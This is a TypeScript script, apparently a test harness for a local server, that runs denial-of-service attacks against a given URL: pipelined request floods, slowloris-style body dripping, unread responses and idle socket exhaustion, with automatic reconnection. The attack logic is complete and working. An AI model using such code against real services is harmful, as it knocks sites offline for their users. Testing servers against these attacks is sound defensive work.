import { connect, type Socket } from 'node:net';
import { connect as connectSecurely } from 'node:tls';

/**
 * Attacks a site from its own process until killed: `attacker.ts <url> <attack as JSON>`. Prints
 * `under way` once all sockets are connected.
 */
export interface Attack {
  readonly kind: 'pipelined' | 'dripping' | 'unread' | 'idle';
  readonly sockets: number;
  /** Requests pipelined on each socket. */
  readonly each?: number;
  readonly method?: string;
  readonly path?: string;
  /** Bytes of the body that are sent with the head. */
  readonly begun?: number;
  /** Number of client addresses. */
  readonly addresses?: number;
}

const AGAIN_MS = 20;

function attack(url: URL, { kind, sockets, addresses = 1, ...how }: Attack): void {
  const { each = 1, method = 'GET', path = '/events', begun = 1 } = how;
  const head = `${method} ${path} HTTP/1.1\r\nhost: ${url.host}\r\naccept-encoding: identity\r\n`;
  const text = {
    pipelined: `${head}\r\n`.repeat(each),
    dripping: `${head}content-type: application/json\r\ncontent-length: 900000\r\n\r\n${' '.repeat(begun)}`,
    unread: `${head}\r\n`.repeat(each),
    idle: '',
  }[kind];

  function open(at: number): void {
    const from = {
      host: url.hostname,
      port: Number(url.port),
      localAddress: `127.0.1.${1 + (at % addresses)}`,
    };
    const socket: Socket =
      url.protocol === 'https:' ? connectSecurely({ ...from, rejectUnauthorized: false }) : connect(from);
    let answered = 0;
    const send = () => void socket.write(text);
    socket.on(url.protocol === 'https:' ? 'secureConnect' : 'connect', () => {
      if ((begunBy += 1) === sockets) console.log('under way');
      if (text) send();
      if (kind === 'unread') socket.pause();
      else socket.resume();
    });
    const drip = kind === 'dripping' ? setInterval(() => void socket.write(' '), 1_000) : undefined;
    if (kind === 'pipelined')
      socket.on('data', (chunk: Buffer) => {
        answered += chunk.toString('latin1').split('HTTP/1.1 ').length - 1;
        if (answered >= each) {
          answered = 0;
          send();
        }
      });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(drip);
      setTimeout(() => open(at), AGAIN_MS);
    });
  }
  let begunBy = 0;
  for (let at = 0; at < sockets; at += 1) open(at);
}

const [url = '', how = '{}'] = process.argv.slice(2);
if (url) attack(new URL(url), JSON.parse(how) as Attack);
